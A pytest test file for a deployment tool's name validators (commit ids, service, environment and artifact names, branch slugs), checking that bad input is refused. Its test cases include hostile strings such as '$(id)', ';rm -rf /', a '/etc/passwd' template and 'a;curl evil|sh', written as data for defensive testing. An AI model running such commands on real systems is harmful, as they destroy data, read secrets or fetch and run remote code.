"""Names from outside: whole, short and ASCII, or refused with exit code 2."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delightful import names
from delightful.errors import ConfigError, ExitCode

SHA = "0123456789abcdef0123456789abcdef01234567"


def refusal(function: Callable[[], object]) -> str:
    """Return the code with which a call is refused."""
    with pytest.raises(ConfigError) as caught:
        function()
    assert caught.value.exit_code is ExitCode.BAD_INPUT
    assert "\n" not in str(caught.value)
    return caught.value.code


def test_takes_a_full_commit_id() -> None:
    """Forty lowercase hexadecimal digits are a commit."""
    assert names.commit_sha(SHA) == SHA


@pytest.mark.parametrize(
    "text",
    [
        SHA + "\n",
        SHA[:12],
        SHA.upper(),
        SHA + "a",
        SHA + SHA[:24],
        "HEAD",
        "latest",
        "",
        "\u0660" * 40,
        'x" -destroy "',
        "$(id)",
        ";rm -rf /",
        "`id`",
        "--",
        "-var",
        f"-{SHA[1:]}",
        '${file("/etc/passwd")}',
        f" {SHA}",
        "\x00" * 40,
    ],
)
def test_refuses_what_is_no_commit_id(text: str) -> None:
    """P01 to P05: a newline, a short id, another alphabet, an option or a template is no commit."""
    assert refusal(lambda: names.commit_sha(text)) == "E_SHA"


@pytest.mark.parametrize("text", ["api", "a1", "my-service", "a" * 31, "a-b-c-d"])
def test_takes_service_names(text: str) -> None:
    """Lowercase words with single dashes name a service."""
    assert names.service_name(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a",
        "Api",
        "1api",
        "-api",
        "api-",
        "a--b",
        "a" * 32,
        "api\n",
        "\uff41\uff50\uff49",
        "a\u200bpi",
        "\u202eipa",
        "../api",
        "a_b",
        "a.b",
        "internal-api",
    ],
)
def test_refuses_service_names_that_some_resource_would_refuse(text: str) -> None:
    """Y16: homoglyphs, invisible characters and outer or double dashes are refused at once."""
    assert refusal(lambda: names.service_name(text)) == "E_NAME"


@pytest.mark.parametrize("text", ["prod ", "Prod", "../prod", "eu-prod", "", "prod\n", "a" * 17])
def test_refuses_environment_names(text: str) -> None:
    """P09: a name that differs in case, space or path is another name."""
    assert refusal(lambda: names.environment_name(text)) == "E_ENV_NAME"


def test_lists_the_environments_there_are() -> None:
    """P09: an environment that is not configured is answered with those that are."""
    with pytest.raises(ConfigError, match="allowed production, sandbox"):
        names.environment_name("staging", known={"sandbox", "production"})


SERVICES = st.from_regex(names.SERVICE_PATTERN, fullmatch=True).filter(
    lambda text: names.service_name_fault(text) is None
)
ENVIRONMENTS = st.from_regex(names.ENVIRONMENT_PATTERN, fullmatch=True)


@given(SERVICES, ENVIRONMENTS, SERVICES, ENVIRONMENTS)
def test_two_pairs_never_share_a_key(one: str, here: str, other: str, there: str) -> None:
    """P13: service and environment can be told apart in every id and key made of both."""
    keys = {names.artifact_key(one, here), names.artifact_key(other, there)}
    assert len(keys) == len({(one, here), (other, there)})
    assert names.checked_artifact_key(keys.pop())


def test_release_ids_count_in_six_digits() -> None:
    """An id names service, environment and sequence."""
    assert names.release_id("api", "sandbox", 7) == "api-sandbox-000007"


@pytest.mark.parametrize("key", ["A/b", "", "a" * 300, "a/b", "é", "a\n", "a--b", "-a", "a-"])
def test_refuses_artifact_keys(key: str) -> None:
    """P14: keys that Prefect refuses, or takes and cannot show, are refused by us."""
    assert refusal(lambda: names.checked_artifact_key(key)) == "E_KEY"


@given(st.text(max_size=300))
def test_slugs_are_short_and_plain(text: str) -> None:
    """P06: whatever a branch is called, its slug is a short name without path or shell in it."""
    slug = names.slug_of(text)
    assert names.checked_artifact_key(slug) == slug
    assert len(slug) <= 40


@pytest.mark.parametrize(
    "branch", ["a;curl evil|sh", "$(id)", "b" * 250, "refs/pull/1/merge", "../../x", "A", "a"]
)
def test_slugs_tell_branches_apart(branch: str) -> None:
    """P06: two branches with the same readable part keep two slugs."""
    assert names.slug_of(branch) != names.slug_of(branch + "!")
